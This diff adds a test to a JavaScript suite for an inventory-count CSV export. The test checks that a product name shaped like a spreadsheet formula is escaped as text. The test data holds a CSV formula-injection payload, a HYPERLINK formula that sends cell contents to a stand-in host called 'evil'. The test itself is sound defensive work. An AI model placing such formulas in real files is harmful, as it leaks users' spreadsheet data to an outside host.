@@ -154,4 +154,12 @@ describe('counting', () => {
     expect(e.filename).toMatch(/^count-A-01-\d{4}-\d\d-\d\d-\d+\.csv$/);
     expect(e.csv).toBe(`\uFEFFstorage_code;sku;barcode;name;qty\r\nA-01;SKU-1;${EAN};Çizim Seti;2\r\n`);
   });
+
+  it('export: a product named like a formula is written as text, not as a live formula', async () => {
+    const id = await setup();
+    productsOf(t.core.ctx.workspace()).save({ sku: 'SKU-1', barcode: EAN, name: '=HYPERLINK("http://evil/?"&A1,"x")' }, 'saved');
+    await t.call('counts.scan', { sessionId: id, code: EAN, quantity: 2 });
+    const e = await t.call('counts.export', { sessionId: id });
+    expect(e.csv).toBe(`\uFEFFstorage_code;sku;barcode;name;qty\r\nA-01;SKU-1;${EAN};"'=HYPERLINK(""http://evil/?""&A1,""x"")";2\r\n`);
+  });
 });
